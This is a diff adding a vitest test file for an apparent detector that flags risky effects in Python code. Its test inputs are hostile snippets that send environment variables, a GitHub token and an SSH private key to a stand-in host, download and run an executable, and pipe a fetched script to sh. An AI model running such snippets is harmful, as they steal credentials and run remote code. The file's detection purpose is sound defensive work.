@@ -1,0 +1,115 @@
+import { describe, expect, test } from "vitest";
+import { effectsOf, evaluated } from "./evaluate.testing.ts";
+
+const HEAD = "import os, socket, getpass, json, subprocess, tempfile, urllib.request, requests\n";
+
+async function found(source: string): Promise<string[]> {
+  return (await effectsOf(HEAD + source)).map((one) => one.split(" ").slice(1, 3).join(" "));
+}
+
+describe("what leaves the machine", () => {
+  test.each([
+    ["the environment", "requests.post('https://h.test', json=dict(os.environ))", "network.exfil requests.post"],
+    [
+      "a copy of it",
+      "e = os.environ.copy()\nrequests.post('https://h.test', data=json.dumps(e))",
+      "network.exfil requests.post",
+    ],
+    ["a token", "requests.get('https://h.test/?t=' + os.environ['GITHUB_TOKEN'])", "network.exfil requests.get"],
+    [
+      "a file of secrets",
+      "requests.post('https://h.test', data=open('/root/.ssh/id_rsa').read())",
+      "network.exfil requests.post",
+    ],
+    [
+      "names of host and user",
+      "requests.get('https://h.test', params={'h': socket.gethostname(), 'u': getpass.getuser()})",
+      "network.exfil-fingerprint requests.get",
+    ],
+    [
+      "names in a request made before",
+      "r = urllib.request.Request('https://h.test', data=socket.gethostname().encode())\nurllib.request.urlopen(r)",
+      "network.exfil-fingerprint urllib.request.urlopen",
+    ],
+    [
+      "a lookup that carries a name",
+      "socket.gethostbyname(socket.gethostname() + '.h.test')",
+      "network.exfil-fingerprint socket.gethostbyname",
+    ],
+  ])("%s", async (_, source, effect) => {
+    expect(await found(source)).toContain(effect);
+  });
+
+  test("a parameter that is a key", async () => {
+    const { effects } = await evaluated({
+      "m.py":
+        "import requests\ndef sign(private_key, x):\n    requests.post('https://h.test', json={'k': private_key})\n",
+    });
+    expect(effects.map(({ capability, trigger }) => `${trigger} ${capability}`)).toContain(
+      "deferred network.exfil-parameter",
+    );
+  });
+
+  test.each(["requests.get('https://h.test')", "requests.get(os.environ.get('URL'))", "socket.socket()"])(
+    "%s tells nothing",
+    async (source) => {
+      expect((await found(source)).filter((one) => one.includes("exfil"))).toEqual([]);
+    },
+  );
+});
+
+describe("what comes from elsewhere", () => {
+  test("is written and started", async () => {
+    const effects = await found(
+      "d = requests.get('https://h.test/x.exe').content\nopen('/tmp/x.exe', 'wb').write(d)\nsubprocess.Popen('/tmp/x.exe')\n",
+    );
+    expect(effects).toContain("file.write-downloaded open().write");
+    expect(effects).toContain("process.spawn-downloaded subprocess.Popen");
+  });
+
+  test("is fetched into a file", async () => {
+    expect(await found("urllib.request.urlretrieve('https://h.test/x', '/tmp/x')")).toContain(
+      "file.write-downloaded urllib.request.urlretrieve",
+    );
+  });
+});
+
+test("a program that the code wrote is started, and read", async () => {
+  const effects = await effectsOf(
+    `${HEAD}f = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\nf.write(b"import os; os.system('a')")\nf.close()\nos.system('python ' + f.name)\n`,
+  );
+  expect(effects).toContain("import process.spawn-written os.system python {temp}/tmp.py");
+  expect(effects).toContain("import process.spawn os.system a");
+});
+
+test.each([
+  ["os.system('pip install x')", "install.pip os.system"],
+  ["subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])", "install.pip subprocess.check_call"],
+  ["pip.main(['install', 'x'])", "install.pip pip.main"],
+  [
+    `os.system('powershell -enc ${Buffer.from("iex x", "utf16le").toString("base64")}')`,
+    "process.encoded-powershell os.system",
+  ],
+  ["ctypes.CDLL('x.so')", "native.load ctypes.CDLL"],
+  ["ctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)", "native.memory ctypes.windll.kernel32.VirtualAlloc"],
+  ["sys.meta_path.append(x)", "import.hook sys.meta_path.append"],
+  ["pickle.loads(x)", "exec.pickle pickle.loads"],
+  ["socket.create_connection(('10.0.0.1', 4444))", "network.connect socket.create_connection"],
+])("%s", async (source, effect) => {
+  expect(await found(`import sys, pip, ctypes, pickle\n${source}\n`)).toContain(effect);
+});
+
+test("names what the argument names", async () => {
+  const { effects } = await evaluated({
+    "m.py":
+      "import os, socket\nos.system('curl -o /tmp/x https://h.test:8080/a?b && sh /tmp/x')\ns = socket.socket()\ns.connect(('h2.test', 443))\n",
+  });
+  expect(effects[0]?.names).toEqual({
+    commands: ["curl", "sh"],
+    hosts: ["h.test:8080"],
+    urls: ["https://h.test:8080/a?b"],
+    paths: ["/tmp/x"],
+    environment: [],
+  });
+  expect(effects.at(-1)?.names.hosts).toEqual(["h2.test:443"]);
+});
